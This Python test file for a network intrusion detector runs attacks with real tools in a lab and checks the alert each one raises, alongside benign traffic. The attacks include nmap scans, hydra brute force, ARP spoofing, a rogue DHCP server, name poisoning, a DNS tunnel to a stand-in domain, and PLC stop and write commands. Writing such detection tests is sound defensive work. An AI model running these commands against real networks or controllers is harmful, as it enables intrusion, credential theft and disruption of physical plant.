"""What is recorded: attacks by real tools, each with the alerts that it must raise, and benign use, which must raise none."""

import os
import sys
import time

from servers import PASSWORD, USER, WORK
from wires import ATTACKER, CAMERAS, CLIENT, GATEWAY, INTERNET, LAN, PLC, SERVER, SITE, on, start, stop

HERE = os.path.dirname(os.path.abspath(__file__))
WEB = INTERNET + "80"
ATTACKS, BENIGN = {}, {}


def attack(*alerts, may=(), stretch=1):
    """An attack that must raise `alerts`, each (rule, address of the device, part of the object), and may raise rules."""
    def keep(do):
        ATTACKS[do.__name__] = (do, alerts, may, stretch)
        return do
    return keep


def benign(do=None, *, stretch=1, may=()):
    """Benign use. `stretch` lengthens the time between its frames."""
    def keep(do):
        BENIGN[do.__name__] = (do, (), may, stretch)
        return do
    return keep(do) if do else keep


def tool(host, name, *words, timeout=120):
    return on(host, [sys.executable, os.path.join(HERE, name), *words], timeout=timeout)


def words(name, n, *more):
    """A file with `n` wrong passwords, then `more`."""
    path = f"{WORK}/{name}.words"
    with open(path, "w") as file:
        file.writelines(f"wrong-{name}-{i}\n" for i in range(n))
        file.writelines(f"{word}\n" for word in more)
    return path


def guess(service, n=30, *more, options="-t 4 -f", target=SERVER, suffix="", timeout=300):
    return on("attacker", f"hydra -I {options} -l {USER} -P {words(service, n, *more)} {service}://{target}{suffix}", timeout=timeout)


# ----------------------------------------------------------------------------------------------------------------- scans

@attack(("A-SCAN-P", ATTACKER, ""))
def nmap_syn():
    on("attacker", f"nmap -n -Pn -sS -T4 -p 1-200 {SERVER}")


@attack(("A-SCAN-P", ATTACKER, ""))
def nmap_connect():
    on("attacker", f"nmap -n -Pn -sT -T4 --top-ports 100 {SERVER}")


@attack(("A-SCAN-P", ATTACKER, ""))
def nmap_fin():
    on("attacker", f"nmap -n -Pn -sF -T4 --top-ports 100 {SERVER}")


@attack(("A-SCAN-P", ATTACKER, ""))
def nmap_xmas():
    on("attacker", f"nmap -n -Pn -sX -T4 --top-ports 100 {SERVER}")


@attack(("A-SCAN-P", ATTACKER, ""))
def nmap_null():
    on("attacker", f"nmap -n -Pn -sN -T4 --top-ports 100 {SERVER}")


@attack(("A-SCAN-P", ATTACKER, ""))
def nmap_udp():
    on("server", "sysctl -qw net.ipv4.icmp_ratelimit=0")
    on("attacker", f"nmap -n -Pn -sU -T4 --top-ports 60 --max-retries 1 {SERVER}")


@attack(may=("A-SCAN-P",))
def nmap_ack():
    """Bare acknowledgements look like those of a connection: the rule says that it is blind for them."""
    on("attacker", f"nmap -n -Pn -sA -T4 --top-ports 100 {SERVER}")


@attack(("A-SCAN-P", ATTACKER, ""))
def nmap_through_the_gateway():
    on("attacker", f"nmap -n -Pn -sS -T4 --top-ports 100 {SITE}9")


@attack(("A-SCAN-P", ATTACKER, ""))
def nmap_of_a_silent_host():
    on("server", f"ip route add blackhole {ATTACKER}/32")
    on("attacker", f"nmap -n -Pn -sS -T4 --max-retries 0 --top-ports 100 {SERVER}")
    on("server", f"ip route del blackhole {ATTACKER}/32")


@attack(("A-SCAN-ARP", ATTACKER, ""))
def nmap_ping():
    on("attacker", f"nmap -n -sn -T4 {LAN}0/24")


@attack(("A-SCAN-H", ATTACKER, ""), ("A-SCAN-ARP", ATTACKER, ""), may=("A-SCAN-P",))
def nmap_of_the_link():
    on("attacker", f"nmap -n -sS -T4 -p 81 {LAN}0/24")


@attack(("A-SCAN-H", ATTACKER, ""))
def masscan_of_a_site():
    on("attacker", f"masscan {SITE}0/26 -p8291 --rate 200 --wait 1 --router-ip {GATEWAY} -e eth0")


@attack(("A-SCAN-OT", ATTACKER, ""), ("A-SCAN-H", ATTACKER, ""))
def nmap_of_plants():
    on("attacker", f"nmap -n -Pn -sS -T4 -p 102,502,44818 {LAN}101-130")


@attack(("A-TELNET-OUT", ATTACKER, ""))
def worm():
    on("attacker", f"nmap -n -Pn -sS -T4 -p 23,2323 {INTERNET}100-130")


@attack(("A-DOS", ATTACKER, WEB))
def syn_flood():
    on("attacker", f"hping3 -q -S -p 80 -c 2000 -i u2000 {WEB}")


@benign
def a_page_of_many_requests():
    on("client", f"for i in $(seq 60); do curl -s -m 2 http://{WEB}/; done", timeout=180)


# -------------------------------------------------------------------------------------------------------------- guessing

@attack(("A-BRUTE", SERVER, "FTP"), ("A-BRUTE-OK", SERVER, "FTP"))
def hydra_ftp():
    guess("ftp", 40, PASSWORD)


@attack(("A-BRUTE", SERVER, "FTP"))
def medusa_ftp():
    on("attacker", f"medusa -h {SERVER} -u {USER} -P {words('medusa', 30)} -M ftp -t 4", timeout=300)


@attack(("A-BRUTE-SSH", SERVER, "SSH"))
def hydra_ssh():
    guess("ssh", 40)


@attack(("A-BRUTE", SERVER, "TELNET"))
def hydra_telnet():
    # It does not end by itself once the server has closed all its connections.
    guess("telnet", 30, options="-t 8 -f", timeout=90)


@attack(("A-BRUTE", SERVER, "HTTP"))
def hydra_http():
    guess("http-get", 40, suffix="/closed/")


@attack(("A-BRUTE", SERVER, "IMAP"))
def hydra_imap():
    guess("imap", 30)


@attack(("A-BRUTE", SERVER, "POP3"), ("A-BRUTE-OK", SERVER, "POP3"))
def hydra_pop3():
    guess("pop3", 30, PASSWORD)


@attack(("A-BRUTE", SERVER, "SMB"), ("A-BRUTE-OK", SERVER, "SMB"))
def smbclient_loop():
    on("attacker", f"for w in $(cat {words('smb', 25, PASSWORD)}); do smbclient -s {WORK}/smb.conf -g -L {SERVER} "
       f"-U {USER}%$w; done")


@attack(("A-BRUTE", SERVER, "MQTT"))
def mosquitto_loop():
    on("attacker", f"for w in $(cat {words('mqtt', 25)}); do mosquitto_pub -h {SERVER} -u {USER} -P $w -t a -m b; done")


@attack(("A-BRUTE-SSH", SERVER, "VNC"), may=("A-BRUTE",))
def hydra_vnc():
    on("attacker", f"hydra -I -t 4 -P {words('vnc', 30)} vnc://{SERVER}", timeout=300)


@attack(("A-DEFCRED", ATTACKER, "admin"))
def default_web_password():
    on("attacker", f"for i in 1 2 3 4; do curl -s -u admin:admin http://{SERVER}/closed/; done")


@attack(("A-DEFCRED", ATTACKER, "admin"))
def default_broker_password():
    on("attacker", f"for i in 1 2 3 4; do mosquitto_pub -h {SERVER} -u admin -P admin -t a -m b; done")


# ------------------------------------------------------------------------------------------------ poisoning, rogue servers

@attack(("A-ARP", ATTACKER, ""), may=("A-GW",))
def arpspoof_both():
    on("client", f"ping -c 2 {GATEWAY}")
    on("attacker", "sysctl -qw net.ipv4.ip_forward=1")
    running = [start("attacker", f"arpspoof -i eth0 -t {CLIENT} {GATEWAY}", "arpspoof"),
               start("attacker", f"arpspoof -i eth0 -t {GATEWAY} {CLIENT}", "arpspoof")]
    on("client", f"for i in 1 2 3 4 5 6; do curl -s -m 2 http://{WEB}/; sleep 0.5; done")
    stop(*running)
    on("attacker", "sysctl -qw net.ipv4.ip_forward=0")


@attack(("A-ARP", ATTACKER, ""))
def arpspoof_one_way():
    on("client", f"ping -c 2 {GATEWAY}")
    on("attacker", "sysctl -qw net.ipv4.ip_forward=1")
    running = start("attacker", f"arpspoof -i eth0 -t {CLIENT} {GATEWAY}", "arpspoof")
    on("client", f"for i in 1 2 3 4 5 6; do curl -s -m 2 http://{WEB}/; sleep 0.5; done; ping -c 1 {SERVER}")
    stop(running)
    on("attacker", "sysctl -qw net.ipv4.ip_forward=0")


@attack(("A-RDHCP", ATTACKER, ""))
def rival_leases():
    conf = f"{WORK}/rogue.conf"
    with open(conf, "w") as file:
        file.write(f"port=0\ninterface=eth0\nbind-interfaces\nno-hosts\ndhcp-range={LAN}150,{LAN}180,2m\n"
                   f"dhcp-option=3,{ATTACKER}\ndhcp-option=6,{ATTACKER}\ndhcp-leasefile={WORK}/rogue.leases\n"
                   "pid-file=\nuser=root\n")
    lease("client")
    running = start("attacker", f"dnsmasq -k -C {conf}", "rogue")
    time.sleep(1)
    lease("client")
    lease("camera1")
    stop(running)


def lease(host, options="-n -q -f -t 5"):
    on(host, f"busybox udhcpc -i eth0 {options} -s /bin/true", timeout=20)


@attack(("A-POISON", ATTACKER, ""))
def llmnr_answers():
    running = start("attacker", [sys.executable, os.path.join(HERE, "names.py"), "poison"], "poison")
    time.sleep(0.5)
    tool("client", "names.py", "llmnr", "fileserv", "printsrv", "intranet", "sqlbox")
    stop(running)


@attack(("A-POISON", ATTACKER, ""))
def wpad_answer():
    running = start("attacker", [sys.executable, os.path.join(HERE, "names.py"), "poison"], "poison")
    time.sleep(0.5)
    tool("client", "names.py", "llmnr", "wpad")
    stop(running)


@attack(("A-POISON", ATTACKER, ""))
def netbios_answers():
    running = start("attacker", [sys.executable, os.path.join(HERE, "names.py"), "poison"], "poison")
    time.sleep(0.5)
    on("client", f"for n in FILESERV PRINTSRV INTRANET SQLBOX; do timeout 3 nmblookup -s {WORK}/smb.conf "
       f"--option=interfaces=eth0 $n; done")
    stop(running)


# --------------------------------------------------------------------------------------------------------- the Internet

def tunnel(options, resolver):
    server = start("world", f"iodined -f -c -P secret -l {INTERNET}54 10.99.0.1 t.example.org", "iodined")
    time.sleep(1)
    client = start("attacker", f"iodine -f -r {options} -P secret {resolver} t.example.org", "iodine")
    for _ in range(20):
        time.sleep(0.5)
        if "dns0" in on("attacker", "ip link"):
            break
    on("attacker", "ping -c 40 -i 0.1 -s 400 10.99.0.1")
    stop(client, server)


@attack(("A-DNS-TUN", ATTACKER, ""), may=("A-DNS-TUN",))
def iodine_by_the_resolver():
    tunnel("", GATEWAY)


@attack(("A-DNS-TUN", ATTACKER, ""))
def iodine_straight_by_txt():
    tunnel("-T TXT", INTERNET + "54")


@attack(("A-EXPOSED", CAMERAS[0], "80"))
def internet_reaches_a_camera():
    for n in range(1, 9):
        on("world", f"curl -s -m 3 --interface {INTERNET}{n} http://{CAMERAS[0]}/")


@attack(("A-MAP", CAMERAS[0], ""))
def camera_maps_a_port():
    talk_as_camera()
    on("camera1", f"""curl -s -m 3 -X POST -H 'SOAPAction: "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"' """
       f"-H 'Content-Type: text/xml' -d '<s:Envelope/>' http://{GATEWAY}:5000/ctl")


@attack(("A-MAP", CAMERAS[1], ""))
def camera_maps_by_nat_pmp():
    talk_as_camera("camera2")
    tool("camera2", "names.py", "map", GATEWAY)


def talk_as_camera(host="camera1"):
    """Asks for a lease, and is asked by SNMP what it is."""
    ip = CAMERAS[int(host.removeprefix("camera")) - 1]
    on("client", f"snmpget -v2c -c Mon1tor -t 1 -r 0 {ip} 1.3.6.1.2.1.1.1.0; curl -s http://{ip}/; "
       f"printf 'OPTIONS rtsp://{ip}/ RTSP/1.0\\r\\nCSeq: 1\\r\\n\\r\\n' | timeout 1 busybox nc {ip} 554")


@attack(("A-MINE", ATTACKER, ""))
def miner():
    on("attacker", """printf '{"id": 1, "method": "mining.subscribe", "params": []}\\n' | timeout 2 busybox nc """ + f"{WEB} 3333")


# ----------------------------------------------------------------------------------------------------------------- plants

def plant(what, rule, part):
    def do():
        tool("attacker", "plant.py", what, PLC)
    do.__name__ = "plant_" + what.replace("-", "_")
    attack((rule, ATTACKER, part))(do)


for _what, _rule, _part in (
    ("s7-stop", "A-S7-STOP", "s7 stop"), ("s7-start", "A-S7-STOP", "s7 start"),
    ("s7-download", "A-PLC-PROG", "s7 download"), ("s7-upload", "A-PLC-PROG", "s7 upload"),
    ("cip-stop", "A-S7-STOP", "cip stop"), ("cip-reset", "A-OT-RESTART", "cip reset"),
    ("modbus-write", "A-MODBUS-W", "modbus write"), ("dnp3-restart", "A-OT-RESTART", "dnp3 restart"),
    ("dnp3-operate", "A-OT-CTL", "dnp3 control"), ("iec104-control", "A-OT-CTL", "iec104 control"),
    ("iec104-reset", "A-OT-RESTART", "iec104 restart"), ("bacnet-restart", "A-OT-RESTART", "bacnet restart"),
    ("bacnet-write", "A-OT-CTL", "bacnet write"),
):
    plant(_what, _rule, _part)


@attack(("A-S7-STOP", ATTACKER, "s7 stop"), ("A-SCAN-P", ATTACKER, ""))
def scan_then_stop():
    """Who does many things first does not hide the last one."""
    on("attacker", f"nmap -n -Pn -sS -T4 -p 1-400 {SERVER}")
    tool("attacker", "plant.py", "s7-stop", PLC)


@attack(("A-FW", ATTACKER, ""))
def firmware_by_tftp():
    with open(f"{WORK}/image.bin", "wb") as file:
        file.write(bytes(600))
    on("attacker", f"cd {WORK}; timeout 2 busybox tftp -p -l image.bin -r image.bin {SERVER}")


@attack(("A-FW", ATTACKER, ""))
def firmware_by_pjl():
    on("attacker", f"printf '\\033%%-12345X@JPL\\r\\n@PJL UPGRADE SIZE=100\\r\\n' | timeout 2 busybox nc {SERVER} 9100")


# ----------------------------------------------------------------------------------------------------------------- benign

@benign
def log_ins():
    """Each service, with one typing error."""
    for word in ("mistyped", PASSWORD, PASSWORD):
        on("client", f"curl -s -m 5 ftp://{USER}:{word}@{SERVER}/; curl -s -m 5 -u {USER}:{word} http://{SERVER}/closed/; "
           f"curl -s -m 5 imap://{USER}:{word}@{SERVER}/; curl -s -m 5 pop3://{USER}:{word}@{SERVER}/; "
           f"smbclient -s {WORK}/smb.conf -g -L {SERVER} -U {USER}%{word}; "
           f"mosquitto_pub -h {SERVER} -u {USER} -P {word} -t a -m b; {secure_shell(SERVER, word)}")


def secure_shell(ip, word=PASSWORD):
    return (f"sshpass -p {word} ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
            f"-o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 {USER}@{ip} true")


@benign
def passive_files():
    """Thirty files by FTP, each on a port of its own."""
    on("client", f"curl -s {' '.join([f'ftp://{USER}:{PASSWORD}@{SERVER}/file.txt'] * 30)}")


@benign
def poller():
    """A monitoring system asks thirty hosts that exist, and four that went away, by ICMP, HTTP and SNMP."""
    hosts = CAMERAS + [LAN + str(n) for n in (221, 222, 223, 224)]
    for _ in range(2):
        on("client", " ".join(f"(ping -c 1 -W 1 {ip}; curl -s -m 1 http://{ip}/; snmpget -v2c -c Mon1tor -t 1 -r 0 {ip} "
                              f"1.3.6.1.2.1.1.1.0) & " for ip in hosts) + "wait")


@benign
def metrics():
    """A collector opens twenty-eight ports that hosts accept, and some that they no longer do."""
    on("client", "; ".join(f"curl -s -m 2 http://{CAMERAS[4]}:{port}/" for port in [*range(9001, 9029), 9090, 9100, 9200]))


@benign
def late_answers():
    """A client closes its sockets before the resolver answers; and looks for the way to a host, by ports that nobody has."""
    tool("client", "names.py", "leave", GATEWAY, *[f"late{n}.example.com" for n in range(40)])
    tool("client", "names.py", "way", SERVER)


@benign
def recorder():
    """A video recorder holds streams of thirty cameras."""
    on("client", " ".join(f"(printf 'OPTIONS rtsp://{ip}/ RTSP/1.0\\r\\nCSeq: 1\\r\\n\\r\\n' | timeout 2 busybox nc {ip} 554) & "
                          for ip in CAMERAS) + "wait")


@benign
def browsing():
    for n in range(1, 60):
        on("client", f"curl -s -m 3 http://{INTERNET}{n}/; true")
    on("client", f"for i in $(seq 40); do curl -s -m 3 -u {USER}:{PASSWORD} http://{SERVER}/closed/; done")


@benign
def automation():
    """One session of SSH to each of thirty hosts, and six to one."""
    on("client", " ".join(f"({secure_shell(ip)}) & " for ip in CAMERAS) + "wait", timeout=300)
    on("client", f"for i in 1 2 3 4 5 6; do {secure_shell(SERVER)}; done")


@benign(stretch=400)
def stale_password():
    """A mail program with an old password, once in some minutes."""
    on("client", f"for i in $(seq 30); do curl -s -m 5 imap://{USER}:old@{SERVER}/; done")


@benign
def look_ups():
    """Names of content networks, of a cloud's load balancers, of mail policies, and reverse ones."""
    cloud = [f"internal-prod-web-alb-12345{n:05}.eu-west-1.elb.amazonaws.com" for n in range(40)]
    shards = [f"d3{n:02}q8x7v5k1l2.cloudfront.net" for n in range(40)] + [f"e{n:05}.dscb.akamaiedge.net" for n in range(40)]
    video = [f"r{n}---sn-4g5ednsl.googlevideo.com" for n in range(40)]
    machines = [f"web-frontend-deployment-{n}.backend.production.svc.cluster.example.net" for n in range(40)]
    tool("client", "names.py", "ask", GATEWAY, "A", *cloud, *shards, *video, *machines)
    tool("client", "names.py", "ask", GATEWAY, "TXT", *[f"_dmarc.example{n}.com" for n in range(40)])
    tool("client", "names.py", "ask", GATEWAY, "PTR", *[f"{n}.0.66.10.in-addr.arpa" for n in range(40)])


@benign
def reputation():
    """A mail server asks a block list of names and addresses, whose labels are hashes, in TXT and A."""
    import hashlib
    hashes = [hashlib.sha256(b"%d" % n).hexdigest()[:32] + ".ebl.msbl.org" for n in range(20)]
    tool("client", "names.py", "ask", GATEWAY, "A", *hashes, *[f"{n}.2.0.192.zen.spamhaus.org" for n in range(60)])


@benign
def leases():
    lease("client")
    lease("client")
    for n in range(1, 6):
        lease(f"camera{n}")


@benign
def failover():
    """A pair of gateways without a virtual MAC: the address moves, and moves back, by gratuitous ARP."""
    virtual = LAN + "5"

    def own(host, other):
        on(other, f"ip addr del {virtual}/24 dev eth0")
        on(host, f"ip addr add {virtual}/24 dev eth0; arping -q -c 2 -U -I eth0 {virtual}")
        on("client", f"ip neigh flush all; ping -c 3 -i 0.3 {virtual}")
        on("camera1", f"ip neigh flush all; ping -c 3 -i 0.3 {virtual}")
        time.sleep(0.5)
    on("client", f"ping -c 1 {GATEWAY}; ping -c 1 {LAN}2")
    own("gateway", "rival")
    own("rival", "gateway")
    own("gateway", "rival")
    on("gateway", f"ip addr del {virtual}/24 dev eth0")


@benign
def failover_of_the_gateway():
    """The same of a pair that hosts use as their gateway: the address that moves forwards for them."""
    virtual = LAN + "6"
    on("rival", "sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0")
    on("client", f"ping -c 1 {GATEWAY}; ping -c 1 {LAN}2; ip route add {INTERNET}200 via {virtual}")
    for host, other in (("gateway", "rival"), ("rival", "gateway"), ("gateway", "rival")):
        on(other, f"ip addr del {virtual}/24 dev eth0")
        on(host, f"ip addr add {virtual}/24 dev eth0; arping -q -c 2 -U -I eth0 {virtual}")
        on("client", f"ping -c 2 -i 0.3 {virtual}; curl -s -m 3 http://{INTERNET}200/; curl -s -m 3 http://{INTERNET}200/")
    on("gateway", f"ip addr del {virtual}/24 dev eth0")
    on("client", f"ip route del {INTERNET}200")
    on("rival", "sysctl -qw net.ipv4.ip_forward=0")


@benign
def new_network_card():
    """A host gets another network card: the address has another MAC from now on."""
    on("camera2", f"ping -c 2 {GATEWAY}; ip link set eth0 down; ip link set eth0 address ac:cc:8e:66:02:02; ip link set eth0 up; "
       f"ip route add default via {GATEWAY}; ping -c 3 {GATEWAY}; ip link set eth0 down; "
       f"ip link set eth0 address ac:cc:8e:66:01:02; ip link set eth0 up; ip route add default via {GATEWAY}")


@benign
def own_names():
    """A file server answers for its own name and work group."""
    on("client", f"for n in LABSERVER LABSERVER LAB; do timeout 3 nmblookup -s {WORK}/smb.conf --option=interfaces=eth0 $n; done; "
       f"timeout 3 nmblookup -s {WORK}/smb.conf -A {SERVER}")


@benign
def sensors():
    """Things publish with the right password, again and again."""
    on("camera3", f"for i in $(seq 40); do mosquitto_pub -h {SERVER} -u {USER} -P {PASSWORD} -t a -m b; done")


@benign
def plant_reads():
    for what in ("s7-read", "modbus-read", "dnp3-read", "iec104-read", "bacnet-read", "cip-read"):
        tool("client", "plant.py", what, PLC)


@benign
def discovery():
    """A telephone looks for speakers: some dozens of addresses by ARP, and by multicast."""
    on("client", " ".join(f"arping -q -c 1 -w 1 -I eth0 {LAN}{n} & " for n in range(100, 140)) + "wait")


@benign
def firmware_read():
    on("camera4", f"cd {WORK}; timeout 2 busybox tftp -g -r image.bin {SERVER}")


@benign
def desktops():
    on("client", f"for i in 1 2 3; do timeout 2 busybox nc {SERVER} 5900 </dev/null; done")

